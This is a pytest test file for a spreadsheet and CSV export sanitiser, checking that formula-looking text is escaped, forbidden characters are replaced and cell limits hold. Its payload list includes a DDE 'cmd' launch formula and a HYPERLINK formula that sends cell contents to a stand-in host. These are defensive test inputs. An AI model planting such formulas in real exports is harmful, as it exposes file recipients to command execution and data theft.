"""Text from users in workbooks and CSV files (similitude.report.sheets.safe_text and the sheets
that apply it): never a live formula, never a character the file format forbids, never longer
than a cell holds.

Outside references: OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection) and
OWASP ASVS 5.0 requirement 1.2.10: a field starting with =, +, -, @, tab or carriage return is
escaped with a leading single quote. XML 1.0 (W3C, 5th ed., 2008) section 2.2: the characters
a document may hold (tab, line feed, carriage return, U+0020-U+D7FF, U+E000-U+FFFD,
U+10000-U+10FFFF). Excel specifications and limits: 32,767 characters in a cell. openpyxl
reads the written files back (the outside reader of the format here).
"""

import io
import math
import xml.dom.minidom

import numpy as np
import openpyxl
import pandas as pd
import pytest

from similitude.report import sheets

# the payloads of the OWASP page's examples and of the issue
FORMULA_TEXTS = ["=1+1", '=HYPERLINK("http://example.invalid/?x="&A1,"click")', "@SUM(1)",
                 "+1+1", "-1+1", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "  =1+1"]


@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(text):
    assert sheets.safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["-1.5", "+3e4", "-0", "12", ".5", "-2.5E-3"])
def test_a_plain_number_written_as_text_is_left_as_it_is(text):
    assert sheets.safe_text(text) == text


@pytest.mark.parametrize("text", ["#N/A", "#DIV/0!", "#REF!"])
def test_text_that_reads_as_a_spreadsheet_error_value_is_kept_as_text(text):
    assert sheets.safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Ferry DEMO-001", "full, trimmed by the stern", "a-b", "x=1"])
def test_ordinary_text_is_unchanged(text):
    assert sheets.safe_text(text) == text


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x07", "\x1b", "\x0b", "\x0c", "\ud800",
                                  "\udfff", "\ufffe", "\uffff"])
def test_characters_xml_forbids_become_the_replacement_character(char):
    assert sheets.safe_text(f"a{char}b") == "a\ufffdb"


def test_tab_line_feed_and_carriage_return_inside_text_are_kept():
    assert sheets.safe_text("a\tb\nc\rd") == "a\tb\nc\rd"


def test_text_over_the_cell_limit_is_cut_with_a_visible_mark():
    text = sheets.safe_text("x" * 40_000)
    assert len(text) == sheets.CELL_TEXT_LIMIT == 32_767  # Excel: 32,767 characters a cell
    assert text.startswith("x" * 1000)
    assert text.endswith("a cell holds 32,767]") and "40,000 characters" in text


def test_characters_outside_the_basic_plane_count_twice_towards_the_limit():
    text = sheets.safe_text("\U0001f600" * 20_000)  # 40,000 UTF-16 units
    assert len(text.encode("utf-16-le")) // 2 <= sheets.CELL_TEXT_LIMIT
    assert "cut here" in text


def _saved_safe(ws_filler, tmp_path, tables=()):
    wb = sheets.new_workbook()
    ws = sheets.new_sheet(wb, "S")
    made = ws_filler(ws)
    path = tmp_path / "w.xlsx"
    sheets.save_workbook(wb, path, made or tables)
    return path


@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_a_cell_of_a_safe_sheet_holds_formula_looking_text_as_text(tmp_path, text):
    def fill(ws):
        ws["A1"] = text
        ws.cell(row=2, column=1, value=text)
        ws.append([text])

    back = openpyxl.load_workbook(_saved_safe(fill, tmp_path))["S"]
    # XML reads a carriage return in element text as a line feed (XML 1.0 section 2.11)
    expected = ("'" + text).replace("\r", "\n")
    for ref in ("A1", "A2", "A3"):
        assert back[ref].data_type == "s" and back[ref].value == expected


def test_our_own_formulas_stay_live(tmp_path):
    def fill(ws):
        ws["A1"] = 2.0
        ws["A2"] = sheets.formula("A1*2")

    back = openpyxl.load_workbook(_saved_safe(fill, tmp_path))["S"]
    assert back["A2"].data_type == "f" and back["A2"].value == "=A1*2"


def test_control_characters_in_a_safe_sheet_give_a_well_formed_file(tmp_path):
    def fill(ws):
        ws["A1"] = "bell\x07 escape\x1b nul\x00"

    back = openpyxl.load_workbook(_saved_safe(fill, tmp_path))["S"]
    assert back["A1"].value == "bell\ufffd escape\ufffd nul\ufffd"


def test_non_finite_numbers_are_written_as_empty_cells(tmp_path):
    def fill(ws):
        ws["A1"], ws["A2"], ws["A3"] = math.nan, math.inf, np.float64(-np.inf)

    back = openpyxl.load_workbook(_saved_safe(fill, tmp_path))["S"]
    assert [back[r].value for r in ("A1", "A2", "A3")] == [None, None, None]


def test_long_table_text_is_made_safe(tmp_path):
    frame = pd.DataFrame({"name": ["=1+1", "ok\x07", "@SUM(1)"], "x": [1.0, 2.0, 3.0]})

    def fill(ws):
        return [sheets.long_table(ws, frame, 1)]

    path = _saved_safe(fill, tmp_path)
    back = openpyxl.load_workbook(path)["S"]
    assert [back[f"A{r}"].value for r in (2, 3, 4)] == ["'=1+1", "ok\ufffd", "'@SUM(1)"]
    assert all(back[f"A{r}"].data_type == "s" for r in (2, 3, 4))


def test_a_sheet_made_outside_the_safe_helpers_is_refused_at_saving(tmp_path):
    wb = sheets.new_workbook()
    openpyxl.Workbook.create_sheet(wb, "plain")  # bypassing new_sheet
    with pytest.raises(TypeError, match="plain"):
        sheets.save_workbook(wb, tmp_path / "w.xlsx")
    assert not (tmp_path / "w.xlsx").exists()


def test_every_sheet_of_a_safe_workbook_is_safe_including_the_first():
    wb = sheets.SafeWorkbook()
    wb.create_sheet("second")
    assert all(isinstance(ws, sheets.SafeWorksheet) for ws in wb.worksheets)


def test_csv_text_fields_are_made_safe_and_numbers_stay_numbers():
    frame = pd.DataFrame({"loading": ["=1+1", "-1+1", "design"], "speed [m/s]": [-1.5, 2.0,
                                                                                  math.inf],
                          "note": ["@SUM(1)", None, "+1"]})
    text = sheets.csv_text(frame)
    back = pd.read_csv(io.StringIO(text))
    assert back["loading"].tolist() == ["'=1+1", "'-1+1", "design"]
    assert back["speed [m/s]"].tolist()[:2] == [-1.5, 2.0]  # parsed as numbers
    assert math.isnan(back["speed [m/s]"][2]) and "inf" not in text  # an empty field
    assert back["note"].tolist()[0] == "'@SUM(1)" and back["note"].tolist()[2] == "+1"


def test_sheet_xml_of_hostile_text_is_well_formed(tmp_path):
    import zipfile

    def fill(ws):
        for i, text in enumerate(FORMULA_TEXTS + ["\x00\x01\x07\x1b", "\ud83d"], start=1):
            ws.cell(row=i, column=1, value=text)

    path = _saved_safe(fill, tmp_path)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                xml.dom.minidom.parseString(z.read(name))  # raises if not well-formed
